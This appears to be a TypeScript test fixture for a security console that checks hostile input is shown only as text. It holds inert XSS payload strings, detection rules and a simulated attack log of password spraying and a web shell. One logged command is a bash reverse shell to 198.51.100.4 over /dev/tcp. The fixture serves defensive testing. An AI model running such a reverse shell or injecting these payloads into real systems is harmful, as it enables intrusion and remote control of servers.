import { createCipheriv, createHmac, randomBytes } from 'node:crypto'

/** What an attacker would like to run. None of it may be more than text anywhere. */
export const PAYLOADS = [
  '<script>window.__hit=1</script>',
  '<img src=x onerror="window.__hit=1">',
  '"><svg onload=window.__hit=1>',
  "javascript:window.__hit=1//'",
  '{{constructor.constructor("window.__hit=1")()}}',
  '$t(ui.close) {{n}} \u202Egnp.exe\u202C \u0007',
] as const

export const HOSTILE = 'mallory<img src=x onerror=window.__hit=1>'
export const HOST = 'web-1<script>window.__hit=1</script>'
export const SECRET = 'alice@customer.example'
export const GZIPPED = 'H4sIAAAAAAAAA8tIzcnJV0hJTc5PSS0CAFJohHMNAAAA'

/** The tenant's key, as an administrator would put it beside the server. */
export const KEY = randomBytes(32)

/** Rules of the house: one that the story fires, and one that would be loud, switched off. */
export const RULE_ID = '5a6f3b1e-7c1d-4c5e-9a55-1f1d9c0a7001'
export const LOUD_ID = '5a6f3b1e-7c1d-4c5e-9a55-1f1d9c0a7002'
export const RULES = [
  {
    reason: 'console tests',
    text: `title: Log-in from a documentation network
id: ${RULE_ID}
status: test
description: |
  Somebody logs in from 203.0.113.0/24.
  Nobody should.
author: Ada <img src=x onerror=window.__hit=1>
license: DRL-1.1
references:
  - https://plura.example/advisory?id=1&lang=en
  - javascript:window.__hit=1
tags: [attack.credential-access, attack.t1110.004]
logsource: {category: webserver}
detection:
  selection:
    cs-uri-stem: /login
    sc-status: 200
    c-ip|cidr: 203.0.113.0/24
  condition: selection
falsepositives: ['Writers of documentation', "Tests"]
level: medium
`,
  },
  {
    reason: 'to be tried first',
    enabled: false,
    text: `title: Any request
id: ${LOUD_ID}
status: experimental
tags: [attack.reconnaissance, attack.t1595]
logsource: {category: webserver}
detection:
  selection:
    cs-method: ['GET', 'POST']
  condition: selection
level: low
`,
  },
]

/** A folder of rules as somebody else made it. */
export const PACK = {
  'hostile.yml': `title: '"><img src=x onerror=window.__hit=1>'
id: 5a6f3b1e-7c1d-4c5e-9a55-1f1d9c0a7003
status: stable
description: "<script>window.__hit=1</script>"
tags: [attack.execution, attack.t1059, attack.t1059.004]
logsource: {product: windows, category: process_creation}
detection: {s: {Image: never}, condition: s}
level: high
`,
  'broken.yml': `title: Cannot run
detection: {s: {Image|nothing: 1}, condition: s}
`,
  'unreadable.yml': Buffer.from([0x74, 0xff, 0xfe]),
}

/** Whom the house tells: a program, a ticket desk, one that is gone, one that takes its time, and one that acts. */
export function connectors(desk: string, secret: string) {
  const body = JSON.stringify({
    about: '{{incident.title}}{{title.en}}',
    who: '{{incident.entities}}',
    event: '{{event}}',
  })
  const ticket = (url: string) => ({ request: { url, body } })
  const once = { attempts: 1, base_ms: 1, pause_max_ms: 1 }
  return {
    egress: [{ host: '127.0.0.1', internal: true }],
    connectors: [
      {
        name: 'soc',
        personal: 'plain',
        webhook: { url: `${desk}/hook`, secret_file: secret },
      },
      { name: 'desk', ticket: ticket(`${desk}/issue`) },
      { name: 'gone', retry: once, ticket: ticket('http://127.0.0.1:1/issue') },
      { name: 'slow', retry: once, timeout_secs: 60, ticket: ticket(`${desk}/slow`) },
      {
        name: 'idp',
        identity: {
          on: [{ rung: 'revoke', target: 'session' }],
          apply: { url: `${desk}/revoke`, body: '{}' },
        },
      },
    ],
  }
}

type Event = Record<string, unknown>

let sequence = 0

/** A UUIDv7, so that the event's id is known before it is stored. */
function idAt(time: number): string {
  const hex = time.toString(16).padStart(12, '0') + '7' + randomBytes(10).toString('hex')
  const text = `${hex.slice(0, 16)}8${hex.slice(17, 32)}`
  return text.replace(/^(.{8})(.{4})(.{4})(.{4})(.{12})$/, '$1-$2-$3-$4-$5')
}

function web(time: number, more: Event & { path: string; ip: string; account?: string }): Event {
  const { path, ip, account, method, query, body, answer, code, outcome, sealed, ...rest } = more
  const verb = typeof method === 'string' ? method : 'GET'
  return {
    metadata: { uid: idAt(time), log_source: 'edge', sequence: ++sequence, log_format: 'gateway' },
    time,
    class_uid: 4002,
    activity_id: verb === 'POST' ? 6 : 3,
    severity_id: 1,
    src_endpoint: { ip },
    actor: { user: account ? { name: account } : undefined },
    http_request: {
      http_method: verb,
      url: { scheme: 'https', hostname: 'shop.example', path, query_string: query },
      user_agent: PAYLOADS[1],
      http_headers: [
        { name: 'host', value: 'shop.example' },
        { name: 'x-evil', value: PAYLOADS[2] },
        { name: 'authorization', value: 'Bearer [secret:0123456789abcdef]' },
      ],
      body_length: 120,
    },
    http_response: { code: code ?? 200, body_length: 44, content_type: 'text/html' },
    plura: {
      site: 'shop',
      endpoint: `${verb} ${path}`,
      request: { body: body, content_type: 'application/json' },
      response: { body: answer },
      outcome,
      sealed,
    },
    ...rest,
  }
}

/** Passwords tried on many accounts, one of which gives in; a shell on the web server; ordinary visits. */
export function everything(now: number): Event[] {
  const start = now - 20 * 60_000
  const events: Event[] = []
  for (let n = 0; n < 26; n++) {
    const isLast = n === 25
    const time = start + n * 2_000
    const id = idAt(time)
    const failure = { result: 'failure', action: 'login', reason: 'bad-password' }
    const event = web(time, {
      path: '/login',
      method: 'POST',
      ip: '203.0.113.66',
      account: n === 3 ? HOSTILE : `user${n}`,
      query: `next=${encodeURIComponent(PAYLOADS[0])}&blob=${encodeURIComponent(GZIPPED)}`,
      body: JSON.stringify({ note: PAYLOADS[n % PAYLOADS.length], all: PAYLOADS.join(' ') }),
      answer: `<html>${PAYLOADS[0]}</html>`,
      code: isLast ? 200 : 401,
      outcome: isLast ? { result: 'success', action: 'login' } : failure,
      sealed:
        n === 0
          ? [{ place: 'request.body', kind: 'email', value: seal(id, 'request.body', SECRET) }]
          : undefined,
    })
    ;(event.metadata as Event).uid = id
    events.push(event)
  }
  for (const [at, command] of [
    [0, `sh -c "id; echo ${PAYLOADS[0]}"`],
    [1, 'bash -c "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"'],
  ] as const) {
    const time = start + 120_000 + at * 1_000
    events.push({
      metadata: { uid: idAt(time), log_source: 'sensor', sequence: ++sequence },
      time,
      class_uid: 1007,
      activity_id: 1,
      severity_id: 1,
      device: { hostname: HOST },
      process: {
        pid: 4_000 + at,
        name: at === 0 ? 'sh' : 'bash',
        cmd_line: command,
        user: { name: 'www-data' },
        parent_process: { pid: 900, name: 'php-fpm', cmd_line: 'php-fpm: pool www' },
      },
      raw_data: `type=EXECVE ${PAYLOADS.join(' ')}`,
    })
  }
  for (let n = 0; n < 40; n++) {
    events.push(
      web(start - 60_000 + n * 15_000, {
        path: '/products',
        ip: `192.0.2.${10 + (n % 12)}`,
        outcome: { result: 'success', action: 'read' },
      }),
    )
  }
  return events.sort((a, b) => Number(a.time) - Number(b.time))
}

const hmac = (key: Buffer, ...parts: (string | Buffer)[]) =>
  parts.reduce((mac, part) => mac.update(part), createHmac('sha256', key)).digest()

/** As the gateway seals personal data: AES-256-GCM under a key of this event alone. */
function seal(event: string, place: string, plain: string): string {
  const id = Buffer.from(event.replaceAll('-', ''), 'hex')
  const key = hmac(hmac(KEY, 'plura gateway seal 1\u0001'), id)
  const nonce = randomBytes(12)
  const cipher = createCipheriv('aes-256-gcm', key, nonce).setAAD(Buffer.from(place))
  const body = Buffer.concat([cipher.update(plain, 'utf8'), cipher.final()])
  return Buffer.concat([nonce, body, cipher.getAuthTag()]).toString('base64')
}
